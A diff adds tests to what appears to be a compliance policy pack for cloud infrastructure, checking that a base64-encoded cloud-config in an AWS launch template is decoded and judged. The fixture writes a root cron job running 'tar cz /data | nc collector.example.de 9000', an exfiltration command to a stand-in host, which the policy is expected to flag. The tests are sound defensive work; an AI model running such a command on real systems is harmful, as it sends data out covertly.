@@ -70,6 +70,42 @@ describe("user data not known at preview", () => {
 
 // Offline, the engine sends such a script as the text the program built, each value it cannot
 // know a mark (test/engine/script-texts.test.ts): the pack reads the rest.
+// Found by the old-against-new bench: a launch template takes its user data base64-encoded, and
+// a cloud-config so encoded was read as a shell script: the cron file it writes went unread.
+describe("a cloud-config given base64-encoded", () => {
+  const cloudConfig = (line: string) =>
+    Buffer.from(
+      [
+        "#cloud-config",
+        "write_files:",
+        "  - path: /etc/cron.d/export",
+        "    content: |",
+        `      */5 * * * * root ${line}`,
+        "",
+      ].join("\n"),
+    ).toString("base64");
+  const template = (userData: string) =>
+    add("aws:ec2/launchTemplate:LaunchTemplate", "nodes", {
+      imageId: "ami-0123456789abcdef0",
+      userData,
+    });
+
+  test("fails on the upload abroad of a file it writes, and closed where the line is unknown", async () => {
+    const upload = template(cloudConfig("tar cz /data | nc collector.example.de 9000"));
+    expect(await judged(upload(oregon), "nodes")).toEqual([
+      "mandatory: collector.example.de (a host the pack cannot place in a country)",
+    ]);
+    expect(await judged(template(cloudConfig("⟨unknown 1⟩"))(oregon), "nodes")).toEqual([
+      "mandatory: userData.write_files[0].content (unknown at preview)",
+    ]);
+  });
+
+  test("twin: the same to a private address passes", async () => {
+    const plan = template(cloudConfig("tar cz /data | nc 10.0.4.20 9000"));
+    expect(await judged(plan(oregon), "nodes")).toEqual([]);
+  });
+});
+
 describe("an SSM Command document", () => {
   const document = (content: unknown) =>
     add("aws:ssm/document:Document", "collect", { documentType: "Command", content });
